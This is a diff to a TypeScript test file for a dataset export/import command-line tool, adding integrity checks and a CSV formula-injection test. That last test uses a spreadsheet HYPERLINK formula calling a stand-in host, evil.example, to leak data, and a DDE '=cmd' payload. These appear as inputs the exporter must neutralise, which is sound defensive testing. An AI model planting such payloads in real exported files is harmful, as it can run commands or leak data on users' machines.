@@ -1,8 +1,10 @@
-import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { datasetRecordSchema } from '../shared/dataset/dataset-record.ts';
 import { datasetManifestSchema } from '../shared/dataset/manifest.ts';
+import { buildArgument, buildJudgement, buildTriple, toJsonl } from './factories.ts';
 import { cliSandbox } from './support/cli.ts';
 
 const FILES = ['README.md', 'croissant.json', 'decisions.csv', 'gold.jsonl', 'manifest.json', 'sample.json'];
@@ -129,7 +131,6 @@ describe('export dataset / import dataset on the demo with annotations', () => {
     lines[2] = (lines[2] ?? '').replace('"annotator":"B"', '"annotator":"A"');
     writeFileSync(join(dir, 'gold.jsonl'), lines.join('\n'));
     // The manifest is rewritten to match, so the record itself is what is refused.
-    const { createHash } = await import('node:crypto');
     const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
     const bytes = readFileSync(join(dir, 'gold.jsonl'));
     for (const file of manifest.files)
@@ -144,9 +145,123 @@ describe('export dataset / import dataset on the demo with annotations', () => {
     expect(refused.stderr).toContain('nothing was imported');
   });
 
+  /** A copy of the demo's dataset in a fresh sandbox, and a way to change a file and its manifest entry. */
+  async function copyOfDataset(name: string) {
+    const copy = cliSandbox();
+    const dir = join(copy.dir, name);
+    expect((await demo.run('export', 'dataset', '--out', dir)).code).toBe(0);
+    const rewrite = (file: string, bytes: Buffer) => {
+      writeFileSync(join(dir, file), bytes);
+      const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
+      for (const entry of manifest.files)
+        if (entry.path === file) {
+          entry.bytes = bytes.length;
+          entry.sha256 = createHash('sha256').update(bytes).digest('hex');
+        }
+      writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest));
+    };
+    return { copy, dir, rewrite };
+  }
+
+  it('checks every file the manifest names: a changed decisions.csv or README.md, or a missing croissant.json, refuse it', async () => {
+    for (const [file, change] of [
+      ['decisions.csv', (text: string) => text.replace('\n', '\nextra,row\n')],
+      ['README.md', (text: string) => `${text}\nEdited by hand.\n`],
+    ] as const) {
+      const { copy, dir } = await copyOfDataset(`changed-${file}`);
+      writeFileSync(join(dir, file), change(readFileSync(join(dir, file), 'utf8')));
+      const refused = await copy.run('import', 'dataset', dir);
+      expect(refused.code, file).toBe(1);
+      expect(refused.stderr).toContain(`${join(dir, file)} is not the file manifest.json describes`);
+      expect((await copy.run('status', '--json')).code).not.toBe(0);
+    }
+    const { copy, dir } = await copyOfDataset('missing');
+    rmSync(join(dir, 'croissant.json'));
+    const missing = await copy.run('import', 'dataset', dir);
+    expect(missing.code).toBe(1);
+    expect(missing.stderr).toContain(`${join(dir, 'croissant.json')}: cannot read it`);
+    const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
+    manifest.files = manifest.files.filter((entry: { path: string }) => entry.path !== 'croissant.json');
+    writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest));
+    const unlisted = await copy.run('import', 'dataset', dir);
+    expect(unlisted.stderr).toContain('does not list croissant.json');
+  });
+
+  it('refuses a file that is a symbolic link, even to the identical file', async () => {
+    const { copy, dir } = await copyOfDataset('linked');
+    const outside = join(copy.dir, 'elsewhere.md');
+    writeFileSync(outside, readFileSync(join(dir, 'README.md')));
+    rmSync(join(dir, 'README.md'));
+    symlinkSync(outside, join(dir, 'README.md'));
+    const refused = await copy.run('import', 'dataset', dir);
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toContain(`${join(dir, 'README.md')} is a symbolic link`);
+    expect((await copy.run('status', '--json')).code).not.toBe(0);
+  });
+
+  it('accepts a gold.jsonl that starts with a byte order mark', async () => {
+    const { copy, dir, rewrite } = await copyOfDataset('bom');
+    rewrite(
+      'gold.jsonl',
+      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), readFileSync(join(dir, 'gold.jsonl'))]),
+    );
+    const imported = await copy.run('import', 'dataset', dir);
+    expect(imported.code, imported.stderr).toBe(0);
+  });
+
+  it('refuses a gold.jsonl line that is not UTF-8 along with every other bad record, in one pass', async () => {
+    const { copy, dir, rewrite } = await copyOfDataset('latin1');
+    const lines = readFileSync(join(dir, 'gold.jsonl'), 'utf8').split('\n');
+    lines[3] = (lines[3] ?? '').replace('"annotator":"B"', '"annotator":"A"');
+    const before = Buffer.from(`${lines.slice(0, 1).join('\n')}\n`);
+    const second = Buffer.from(lines[1] ?? '');
+    const at = second.indexOf('"text":"') + 8;
+    second[at] = 0xff;
+    rewrite('gold.jsonl', Buffer.concat([before, second, Buffer.from(`\n${lines.slice(2).join('\n')}`)]));
+    const refused = await copy.run('import', 'dataset', dir);
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toContain(`gold.jsonl:2: not valid UTF-8 at byte ${before.length + at} `);
+    expect(refused.stderr).toMatch(/gold\.jsonl:4: annotations\[1\]\.annotator: A appears twice/);
+    expect(refused.stderr).toContain('2 bad records');
+  });
+
   it('refuses an export option that does not apply', async () => {
     const result = await demo.run('export', 'dataset', '--out', 'x', '--extractor', 'rules');
     expect(result.code).toBe(1);
     expect(result.stderr).toContain('--extractor does not apply to export dataset');
+  });
+});
+
+describe('export dataset: cells a spreadsheet would run', () => {
+  it('writes ids and model names that start like a formula with a leading apostrophe in decisions.csv, and as they are in gold.jsonl', async () => {
+    const sandbox = cliSandbox();
+    const model = '=HYPERLINK("http://evil.example/?leak","x")';
+    const argumentId = "=cmd|' /C calc'!A0";
+    const run = async (...args: string[]) => {
+      const result = await sandbox.run(...args);
+      expect(result.code, result.stderr).toBe(0);
+    };
+    await run('import', 'triples', sandbox.file('t.jsonl', toJsonl([buildTriple()])));
+    await run(
+      'import',
+      'arguments',
+      sandbox.file('a.jsonl', toJsonl([buildArgument({ id: argumentId, model })])),
+    );
+    await run(
+      'import',
+      'gold',
+      sandbox.file('g.jsonl', toJsonl([{ argument_id: argumentId, ...buildJudgement() }])),
+    );
+    await run('export', 'dataset', '--out', 'out');
+    const csv = readFileSync(join(sandbox.dir, 'out', 'decisions.csv'), 'utf8');
+    const row = csv.split('\n')[1] ?? '';
+    expect(
+      row.startsWith(`"'=cmd|' /C calc'!A0","'=HYPERLINK(""http://evil.example/?leak"",""x"")",1,`),
+    ).toBe(true);
+    for (const line of csv.split('\n')) expect(line).not.toMatch(/(^|,)[=+\-@\t\r]/);
+    const record = JSON.parse(
+      readFileSync(join(sandbox.dir, 'out', 'gold.jsonl'), 'utf8').split('\n')[0] ?? '{}',
+    );
+    expect(record).toMatchObject({ argument_id: argumentId, model });
   });
 });
